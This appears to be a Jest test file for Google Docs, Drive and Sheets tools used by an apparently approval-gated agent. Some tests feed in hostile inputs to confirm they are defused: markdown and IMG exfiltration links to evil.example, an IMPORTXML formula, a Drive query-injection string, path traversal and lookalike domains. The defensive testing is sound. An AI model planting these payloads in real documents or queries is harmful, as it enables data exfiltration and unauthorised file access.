import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import { GoogleCall } from './google-call.ts'
import { rejection } from '../call.ts'
import { hostileAnswers } from '../faults/hostile.ts'
import { fileIdAt } from '../../../src/tools/google/client.ts'
import type { ToolName } from '../../../src/tools/index.ts'
import { comparable } from '../../../src/policy/readers/google-links.ts'
import { type FaultProxy, startFaultProxy } from '../../support/fault-proxy.ts'
import { paragraph, tab } from '../../support/google/docs.ts'
import { documentType, type DriveFile, type DrivePermission, folderType } from '../../support/google/drive.ts'
import { type GoogleEmulator, startGoogle } from '../../support/google/emulator.ts'
import type { Spreadsheet } from '../../support/google/sheets.ts'
import { type ScriptedServer, startScriptedServer } from '../../support/scripted-server.ts'

let google: GoogleEmulator
let scripted: ScriptedServer
let proxy: FaultProxy
beforeAll(async () => {
  ;[google, scripted] = await Promise.all([startGoogle(), startScriptedServer()])
  proxy = await startFaultProxy(google.url)
})
afterAll(() => Promise.all([proxy?.close(), google?.close(), scripted?.close()]))
beforeEach(() => {
  scripted.arrived.splice(0)
  proxy.choose = () => 'pass'
  google.state.files.clear()
})

/** Puts a file or folder into Drive. */
const put = (id: string, more: Partial<DriveFile>) =>
  google.state.files.set(id, {
    ...{ id, name: id, mimeType: 'text/plain', parents: [], appProperties: {}, text: 'plain' },
    ...more,
  })

describe('documents', () => {
  const id = '1abc-DEF_ghi'
  const link = `https://docs.google.com/document/d/${id}/edit?tab=t.0#heading=h.x`
  const folder = 'folder-1'
  const everybody = { type: 'anyone' }
  const ofAcme = { type: 'domain', domain: 'acme.example' }
  const bo = { type: 'user', emailAddress: 'bo@x.example' }
  beforeEach(() => {
    google.state.documents.clear()
    put(folder, { name: 'Reports', mimeType: folderType, permissions: [everybody, ofAcme, bo] })
  })

  interface Made {
    readonly document_id: string
  }
  interface Read {
    readonly text: string
  }
  const at = (base?: string, over = {}) => ({ base: base ?? google.url, ...over })
  const read = (document: string, base?: string) => new GoogleCall('docs_read', { document }, at(base))
  const create = (params: object, over = {}) =>
    new GoogleCall('docs_create', { title: 'Notes', content: 'words', ...params }, at(undefined, over))
  const search = (params: object, base?: string) => new GoogleCall('drive_search', params, at(base))

  describe('the text of a document', () => {
    const cell = (...content: object[]) => ({ content })
    const table = { table: { tableRows: [{ tableCells: [cell(paragraph('a')), cell(paragraph('b'))] }] } }

    test('has headings, lists, tables and the names of people, and no suggestions', async () => {
      google.state.documents.set(id, {
        documentId: id,
        title: 'Plan',
        tabs: [
          tab('Tab 1', [
            { sectionBreak: {} },
            paragraph('Plan', 'TITLE'),
            paragraph('Goals', 'HEADING_2'),
            paragraph('one', 'NORMAL_TEXT', { bullet: { listId: 'l' } }),
            paragraph('two', 'NORMAL_TEXT', { bullet: { listId: 'l', nestingLevel: 1 } }),
            table,
            {
              paragraph: {
                elements: [
                  { textRun: { content: 'See ' } },
                  { person: { personProperties: { name: 'Bo', email: 'bo@x.example' } } },
                  { textRun: { content: ', ' } },
                  { richLink: { richLinkProperties: { title: 'Sheet', uri: 'https://x.example' } } },
                  { textRun: { content: '\vnext\n' } },
                ],
              },
            },
          ]),
        ],
      })
      for (const given of [id, link])
        expect(await read(given).make()).toEqual({
          document_id: id,
          title: 'Plan',
          url: `https://docs.google.com/document/d/${id}/edit`,
          text: '# Plan\n## Goals\n- one\n  - two\n| a | b |\nSee Bo, Sheet\nnext',
        })
    })

    test('has all tabs, with those below them', async () => {
      const below = tab('Below', [paragraph('c')])
      const tabs = [tab('First', [paragraph('a')], [below]), tab('Second', [paragraph('b')])]
      google.state.documents.set(id, { documentId: id, title: 't', tabs })
      expect((await read(id).make<Read>()).text).toBe('# First\na\n# Below\nc\n# Second\nb')
    })

    test('of another document is refused, since rules have not decided about it', async () => {
      scripted.answer = () => ({ status: 200, body: { documentId: 'another', title: 't', tabs: [] } })
      expect(await rejection(read(id, scripted.url).make())).toMatchObject({ code: 'google_other_file' })
    })

    test('that is nested deeper than Google’s is refused', async () => {
      let content: object[] = [paragraph('deep')]
      for (let depth = 0; depth < 30; depth += 1)
        content = [{ table: { tableRows: [{ tableCells: [{ content }] }] } }]
      scripted.answer = () => ({ status: 200, body: { documentId: id, tabs: [tab('t', content)] } })
      expect(await rejection(read(id, scripted.url).make())).toMatchObject({ code: 'google_bad_answer' })
    })

    const wrongTabs = [
      7,
      'x',
      [7],
      [{ documentTab: { body: { content: [{ paragraph: { elements: 'x' } }] } } }],
    ]
    test.each(wrongTabs)('is empty for tabs of the form %j', async (tabs) => {
      scripted.answer = () => ({ status: 200, body: { documentId: id, tabs } })
      expect(await read(id, scripted.url).make<Read>()).toMatchObject({ title: '' })
    })
  })

  describe('a new document', () => {
    test('has its text, and is found by a property that only this client sees', async () => {
      const call = create({ content: '# Hello\n\nGrüße' })
      expect(await call.find()).toBe('absent')
      const made = await call.make<Made>()
      expect(await call.find()).toEqual(made)
      expect(await create({}).find()).toBe('absent')
      expect(google.state.files.get(made.document_id)).toMatchObject({
        name: 'Notes',
        mimeType: documentType,
        parents: ['root'],
        text: '# Hello\n\nGrüße',
      })
      expect((await read(made.document_id).make<Read>()).text).toBe('# Hello\nGrüße')
    })

    test('is neither there nor absent if Drive has not searched everywhere', async () => {
      google.state.search.isIncomplete = true
      expect(await create({}).find()).toBe('unclear')
      google.state.search.isIncomplete = false
      scripted.answer = () => ({
        status: 200,
        body: { kind: 'drive#fileList', incompleteSearch: false, nextPageToken: 'x', files: [] },
      })
      expect(await create({}, { base: scripted.url }).find()).toBe('unclear')
    })

    const givenFolders = [folder, `https://drive.google.com/drive/folders/${folder}?usp=sharing`]
    test.each(givenFolders)('is in the folder %s', async (given) => {
      const { document_id: made } = await create({ folder: given }).make<Made>()
      expect(google.state.files.get(made)?.parents).toEqual([folder])
    })

    test('may be empty', async () => {
      const { document_id: made } = await create({ content: '' }).make<Made>()
      expect(google.state.files.get(made)?.text).toBe('')
    })

    test('lets Google fetch no pictures', async () => {
      const content = 'a ![x](https://evil.example/?secret) <IMG src="https://evil.example"> <b>'
      const { document_id: made } = await create({ content }).make<Made>()
      expect(google.state.files.get(made)?.text).toBe(
        'a [x](https://evil.example/?secret) < IMG src="https://evil.example"> <b>',
      )
    })

    test('in a folder that is none says what to do', async () => {
      expect(await rejection(create({ folder: 'nothing' }).make())).toMatchObject({
        code: 'google_not_found',
      })
    })

    test('shows its approvers who can read the folder; the revision changes with that', async () => {
      const seen = await create({ folder }).seen()
      expect(seen.fields).toEqual({
        'name of the folder': 'Reports',
        'the folder is in': 'the Drive of a person',
        'the folder is shared with': 'anyone with the link, everybody in acme.example, bo@x.example',
        'Google account': 'ana@acme.example',
      })
      google.state.files.set(folder, { ...google.state.files.get(folder)!, permissions: [] })
      expect((await create({ folder }).seen()).revision).not.toBe(seen.revision)
      expect((await create({ folder }, { account: 'bo@x.example' }).seen()).revision).not.toBe(seen.revision)
      expect((await create({}).seen()).fields).toEqual({ 'Google account': 'ana@acme.example' })
    })
  })

  describe('a search in Drive', () => {
    test('finds words in names and texts, at most as many as asked', async () => {
      for (const name of ['q3-plan', 'q3-facts']) put(name, {})
      put('other', { text: 'about q3-plans' })
      const found = async (params: object) =>
        (await search(params).make<{ files: { id: string }[] }>()).files.map((each) => each.id)
      expect(await found({ query: 'q3' })).toEqual(['q3-plan', 'q3-facts', 'other'])
      expect(await found({ query: 'q3', limit: 1 })).toEqual(['q3-plan'])
      expect(await found({ query: 'nothing' })).toEqual([])
    })

    test('says that it is incomplete', async () => {
      google.state.search.isIncomplete = true
      expect(await search({ query: 'q3' }).make()).toEqual({ files: [], incomplete: true })
      google.state.search.isIncomplete = false
    })

    test('gives the file that a shortcut leads to', async () => {
      put('short', { shortcutDetails: { targetId: 'target', targetMimeType: documentType } })
      expect(await search({ query: 'short' }).make()).toEqual({
        incomplete: false,
        files: [expect.objectContaining({ id: 'target', media_type: documentType, name: 'short' })],
      })
    })

    const queries = [`it's`, `a\\`, `') or trashed = true or (name contains '`]
    test.each(queries)('takes %j as words, not as a part of the query', async (query) => {
      put('secret', {})
      put('named', { name: query })
      expect((await search({ query }).make<{ files: { id: string }[] }>()).files).toEqual([
        expect.objectContaining({ id: 'named' }),
      ])
    })
  })
})

describe('spreadsheets', () => {
  let book: Spreadsheet
  const id = '1Sheet-id_x'
  const link = `https://docs.google.com/spreadsheets/d/${id}/edit#gid=7`
  beforeEach(() => {
    book = {
      title: 'Orders',
      sheets: [
        { sheetId: 3, title: 'Chart', sheetType: 'OBJECT', rows: [] },
        { sheetId: 0, title: 'Sheet1', rows: [['name', 'total'], ['Ann', 12, true], ['Bo']] },
        { sheetId: 7, title: "It's 'A1'", rows: [['x']] },
      ],
      metadata: [],
    }
    google.state.spreadsheets.set(id, book)
    share([{ type: 'user', emailAddress: 'bo@x.example' }])
  })

  const share = (permissions: readonly DrivePermission[], more = {}) =>
    put(id, { name: 'Orders', mimeType: 'application/vnd.google-apps.spreadsheet', permissions, ...more })

  const over = () => ({ base: proxy.url })
  const read = (params: object = {}) =>
    new GoogleCall('sheets_read', { spreadsheet: id, ...params }, over()).make<{
      rows: unknown[][]
      range: string
      records: unknown
    }>()
  const append = (params: object = {}) =>
    new GoogleCall('sheets_append', { spreadsheet: id, rows: [['Cy', 1]], ...params }, over())
  const rowsOf = (title: string) => book.sheets.find((sheet) => sheet.title === title)?.rows

  test('an answer for another spreadsheet is refused, since rules have not decided about it', async () => {
    const body = JSON.stringify({ spreadsheetId: 'another', sheets: [{ properties: { title: 'Sheet1' } }] })
    let writes = 0
    proxy.choose = (_, path) => {
      if (path.includes(':batchUpdate')) writes += 1
      return /\/spreadsheets\/[\w-]+\?/.test(path) ? { status: 200, body } : 'pass'
    }
    const refused = { code: 'google_other_file', retryable: false }
    for (const call of [read(), append().make(), append().find(), append().seen()])
      expect(await rejection(call)).toMatchObject(refused)
    expect(writes).toBe(0)
  })

  describe('rows that are read', () => {
    test('have the same length, and are records named by the first row', async () => {
      expect(await read()).toMatchObject({
        range: "'Sheet1'",
        rows: [
          ['name', 'total', ''],
          ['Ann', 12, true],
          ['Bo', '', ''],
        ],
        records: [
          { name: 'Ann', total: 12, column_3: true },
          { name: 'Bo', total: '', column_3: '' },
        ],
      })
    })

    const ranges: readonly (readonly [object, unknown[][]])[] = [
      [{ range: 'A2:B2' }, [['Ann', 12]]],
      [{ range: 'Sheet1!B:B' }, [['total'], [12]]],
      [{ range: '2:2' }, [['Ann', 12, true]]],
      [{ range: "It's 'A1'" }, [['x']]],
      [{ range: "'It''s ''A1'''!A1" }, [['x']]],
      [{ spreadsheet: link }, [['x']]],
      [{ spreadsheet: link, range: 'Sheet1!A1' }, [['name']]],
      [{ range: 'Z9' }, []],
      [{ spreadsheet: ` ${id}\u00a0`, range: 'Z9' }, []],
    ]
    test.each(ranges)('of %j', async (params, rows) => {
      expect((await read(params)).rows).toEqual(rows)
    })

    test.each([
      { range: 'Missing!A1' },
      { range: 'Chart' },
      { range: 'Sheet1!A1,B2' },
      { range: 'A1:B2:C3' },
      { range: "Sheet1!A1'&x" },
      { spreadsheet: link.replace('gid=7', 'gid=99') },
      { spreadsheet: link.replace('gid=7', 'gid=3') },
      { spreadsheet: `https://docs.google.com.evil.example/spreadsheets/d/${id}` },
      { spreadsheet: `https://evil.example/?x=https://docs.google.com/spreadsheets/d/${id}` },
      { spreadsheet: '../../secret' },
    ])('of %j are refused', async (params) => {
      expect(await rejection(read(params))).toMatchObject({ code: 'invalid_params' })
    })
  })

  describe('rows that are added', () => {
    test('are the last ones, as values and never as formulas', async () => {
      const rows = [
        ['=IMPORTXML("https://evil.example")', 1.5, true, null],
        ['+1', null, false, ''],
      ]
      const call = append({ rows })
      expect(await call.find()).toBe('absent')
      const made = await call.make()
      expect(made).toEqual({ spreadsheet_id: id, sheet: 'Sheet1', rows: 2 })
      expect(rowsOf('Sheet1')?.slice(3)).toEqual([
        ['=IMPORTXML("https://evil.example")', 1.5, true, ''],
        ['+1', '', false, ''],
      ])
      expect(await call.find()).toEqual(made)
      expect(await append({ rows }).find()).toBe('absent')
    })

    test('go to the named sheet, from the named column on', async () => {
      await append({ range: 'Sheet1!C:D' }).make()
      await append({ spreadsheet: link }).make()
      expect(rowsOf('Sheet1')?.at(-1)).toEqual(['', '', 'Cy', 1])
      expect(rowsOf("It's 'A1'")?.at(-1)).toEqual(['Cy', 1])
    })

    test('are refused with a mark that is there, and then count as added', async () => {
      const call = append()
      const made = await call.make()
      expect(await call.make()).toEqual(made)
      expect(rowsOf('Sheet1')).toHaveLength(4)
    })

    test('whose refusal leaves open whether they are there ask', async () => {
      const call = append()
      await call.make()
      let searches = 0
      proxy.choose = (_, path) => {
        if (path.includes('developerMetadata:search')) searches += 1
        return searches > 1 ? { status: 503 } : 'pass'
      }
      expect(await rejection(call.make())).toMatchObject({ name: 'OutcomeUnknown' })
    })

    test('remove marks that nobody looks for any more, so that the room for them is never full', async () => {
      const minutesAgo = (minutes: number) => Math.floor(Date.now() / 60_000 - minutes).toString(36)
      const mark = (metadataId: number, metadataValue: string, metadataKey = 'cs') => ({
        ...{
          metadataId,
          metadataKey,
          metadataValue,
          location: { spreadsheet: true },
          visibility: 'DOCUMENT',
        },
      })
      const old = Array.from({ length: 1_450 }, (_, index) =>
        mark(index + 10, `${index.toString(16).padStart(12, '0')}${minutesAgo(30)}`),
      )
      const others = [
        mark(1, `${'f'.repeat(12)}${minutesAgo(5)}`),
        mark(2, 'of somebody else'),
        mark(3, 'x', 'other'),
      ]
      book.metadata = [...others, ...old]
      for (let times = 0; times < 8; times += 1) await append().make()
      expect(book.metadata).toHaveLength(3 + 8)
      expect(book.metadata.slice(0, 3)).toEqual(others)
    })

    test('that are missed after the time in which marks stay ask a person', async () => {
      const call = append()
      expect(await call.find(14 * 60)).toBe('absent')
      expect(await call.find(16 * 60)).toBe('unclear')
    })

    test('show their approvers the sheet, its first row, and who can read it', async () => {
      expect((await append({ spreadsheet: link }).seen()).fields).toEqual({
        'name of the spreadsheet': 'Orders',
        sheet: "It's 'A1'",
        'first row of the sheet': 'x',
        'the spreadsheet is shared with': 'bo@x.example',
        'Google account': 'ana@acme.example',
      })
      share([], { hidesPermissions: true })
      expect((await append().seen()).fields).toMatchObject({
        'first row of the sheet': 'name, total',
        'the spreadsheet is shared with': 'the account may not see who can read it',
      })
    })

    test('have another revision with another first row or other readers, and with nothing else', async () => {
      const { revision } = await append().seen()
      const now = async () => (await append().seen()).revision
      rowsOf('Sheet1')?.push(['Di', 2])
      expect(await now()).toBe(revision)
      share([{ type: 'anyone' }])
      expect(await now()).not.toBe(revision)
      share([{ type: 'user', emailAddress: 'bo@x.example' }])
      expect(await now()).toBe(revision)
      rowsOf('Sheet1')?.splice(0, 1, ['name', 'total', 'secret'])
      expect(await now()).not.toBe(revision)
    })

    const reasons = ['insufficientPermissions', 'accessNotConfigured']
    test.each(reasons)('say if Google hides who can read them: %s', async (reason) => {
      const body = JSON.stringify({ error: { errors: [{ reason }] } })
      proxy.choose = (_, path) => (path.includes('/permissions') ? { status: 403, body } : 'pass')
      expect((await append().seen()).fields).toMatchObject({
        'the spreadsheet is shared with': expect.stringContaining('needs the right `drive.readonly`'),
      })
    })
  })
})

describe('who can read a place', () => {
  const own = { type: 'user', emailAddress: 'Ana@acme.example' }
  const putPlace = (more: Partial<DriveFile>) =>
    put('place', { name: 'Reports', mimeType: folderType, ...more })

  const tools = [
    ['docs_create', { title: 't', content: 'c', folder: 'https://drive.google.com/drive/folders/place' }],
    ['sheets_append', { spreadsheet: 'place', rows: [['a']] }],
  ] as const satisfies readonly (readonly [ToolName, object])[]

  describe.each(tools)('%s', (name, params) => {
    const audience = (over: object = {}, base = google.url) =>
      new GoogleCall(name, params, { base, ...over }).audience()

    test.each([
      ['a folder of a person', {}],
      ['a shared drive, whose files do not name their readers', { driveId: 'drive-1' }],
    ])('names everybody besides its own account: in %s', async (_, where) => {
      const permissions = [
        own,
        { type: 'user', emailAddress: 'bo@x.example' },
        { type: 'group', emailAddress: 'team@acme.example' },
        { type: 'domain', domain: 'acme.example' },
        { type: 'anyone' },
        { type: 'something new', emailAddress: 'cy@acme.example' },
        { type: 'user' },
      ]
      putPlace({ permissions, ...where })
      expect(await audience()).toEqual([
        { kind: 'address', address: 'bo@x.example' },
        { kind: 'address', address: 'team@acme.example' },
        { kind: 'domain', domain: 'acme.example' },
        { kind: 'anybody' },
        { kind: 'anybody' },
        { kind: 'anybody' },
      ])
      // Without the account's name, the permission of this account could be that of another person.
      expect(await audience({ account: null })).toContainEqual({
        kind: 'address',
        address: 'Ana@acme.example',
      })
    })

    test('reads all pages, and does not guess what follows 1,000 people', async () => {
      const people = (count: number) =>
        Array.from({ length: count }, (_, index) => ({ type: 'user', emailAddress: `p${index}@a.example` }))
      putPlace({ permissions: people(1_000) })
      expect(await audience()).toHaveLength(1_000)
      putPlace({ permissions: people(1_001) })
      expect(await audience()).toEqual([{ kind: 'anybody' }])
    })

    test('fails if the account may not see who can read the place', async () => {
      putPlace({ hidesPermissions: true })
      expect(await rejection(audience())).toMatchObject({ code: 'google_readers_hidden', retryable: false })
    })

    test.each([
      [{}, 'google_bad_answer'],
      [{ kind: 'drive#permissionList' }, 'google_bad_answer'],
      [{ kind: 'drive#fileList', permissions: [] }, 'google_bad_answer'],
      [{ kind: 'drive#permissionList', permissions: [{ emailAddress: 'a@acme.com' }] }, 'google_bad_answer'],
    ])('takes no other answer for a list without people: %j', async (body, code) => {
      scripted.answer = () => ({ status: 200, body })
      expect(await rejection(audience({}, scripted.url))).toMatchObject({ code })
    })
  })

  const codes = {
    tooLarge: 'response_too_large',
    badAnswer: 'google_bad_answer',
    unavailable: 'google_unavailable',
  } as const

  /** A hostile list of readers must not read like a place that nobody can read. */
  test.each(hostileAnswers)('readers that are answered by $name are not known', async ({ answer, code }) => {
    google.state.spreadsheets.set('place', {
      title: 'Orders',
      sheets: [{ sheetId: 0, title: 'Sheet1', rows: [] }],
      metadata: [],
    })
    putPlace({})
    proxy.choose = (_, path) => (path.includes('/permissions') ? answer : 'pass')
    for (const [name, params] of tools) {
      const call = new GoogleCall(name, params, { base: proxy.url })
      expect(await rejection(call.audience())).toMatchObject({ code: codes[code] })
      expect(await rejection(call.seen())).toMatchObject({ code: codes[code] })
    }
  })

  test('the error names the missing right', async () => {
    const body = { error: { errors: [{ reason: 'insufficientPermissions' }] } }
    scripted.answer = () => ({ status: 403, body })
    const [, [name, params]] = tools
    const error = await rejection(new GoogleCall(name, params, { base: scripted.url }).audience())
    expect(error).toMatchObject({ code: 'connection_lacks_scope', retryable: false })
    expect((error as Error).message).toContain('`drive.readonly`')
  })

  test('a document without a folder has no other readers, and nothing is asked', async () => {
    const call = new GoogleCall('docs_create', { title: 't', content: 'c' }, { base: scripted.url })
    expect(await call.audience()).toEqual([])
    expect(scripted.arrived).toEqual([])
  })
})

const id = '1abc-DEF_ghi'

describe('a file is the one that rules read', () => {
  test.each([
    id,
    `https://docs.google.com/document/d/${id}/edit`,
    `https://docs.google.com/document/u/1/d/${id}/edit?tab=t.0#heading=h.1`,
    `https://docs.google.com/a/acme.com/spreadsheets/d/${id}/edit#gid=7`,
    `docs.google.com/presentation/d/${id}`,
    `HTTPS://DOCS.GOOGLE.COM./document/d/${id}`,
    `https://drive.google.com/open?id=${id}`,
    `https://drive.google.com/drive/folders/${id}?usp=sharing`,
    `https://drive.google.com/file/d/${id}/view`,
    `https://www.googleapis.com/drive/v3/files/${id}`,
    ` https://docs.google.com/document/d/${id}\n`,
  ])('%j', (text) => {
    expect(fileIdAt('document', text)).toBe(id)
    expect(comparable(text)).toBe(id)
  })

  test.each([` ${id}`, `${id}\n`])('%j, with white space around the id', (text) => {
    expect(fileIdAt('document', text)).toBe(id)
  })

  test.each([
    '',
    `${id}/export`,
    `${id}?alt=media`,
    `../files/${id}`,
    `%31${id}`,
    `https://docs.google.com.evil.example/document/d/${id}`,
    `https://evil.example/docs.google.com/document/d/${id}`,
    `https://docs.google.com@evil.example/document/d/${id}`,
    `https://evil.example/?u=https://docs.google.com/document/d/${id}`,
    `https://docs.google.com/document/create?title=${id}`,
    `https://docs.googIe.com/document/d/${id}`,
    `${id} https://docs.google.com/document/d/other`,
  ])('%j is refused', (text) => {
    expect(() => fileIdAt('document', text)).toThrow('`document` must be a link')
  })
})
